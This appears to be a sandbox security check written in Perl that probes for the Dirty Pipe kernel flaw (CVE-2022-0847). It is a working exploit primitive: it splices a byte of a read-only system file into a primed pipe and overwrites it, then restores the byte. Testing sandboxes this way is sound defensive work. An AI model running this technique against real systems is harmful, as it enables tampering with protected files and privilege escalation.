# tries: write into a file that it may only read, by a pipe whose pages can be merged into (CVE-2022-0847: Dirty Pipe)
# because: kernels that Atoll takes have the mend; in gVisor and a machine the pages are another kernel's
my $file = "/usr/lib/os-release"; open my $f, "<", $file or die "$file: $!"; my $before = do { local $/; <$f> };
# Leaves a mark in every page of a pipe, puts one byte of the file there, and writes after it.
sub merge { my ($byte) = @_; pipe(my $out, my $in) or die; my $page = "x" x 4096; my $drained;
  for (1 .. 16) { syswrite($in, $page) == 4096 or die "$!" } for (1 .. 16) { sysread($out, $drained, 4096) == 4096 or die "$!" }
  my $offset = pack("q", 0); call(275, fileno($f), $offset, fileno($in), 0, 1, 0) == 1 or refused("splice: $!"); syswrite($in, $byte) // refused("write: $!") }
sub now { open my $again, "<", $file or die "$!"; local $/; <$again> }
merge(substr($before, 1, 1) eq "!" ? "?" : "!");
if (now() ne $before) { merge(substr($before, 1, 1)); succeeded("$file was changed") } held("the file is as it was");
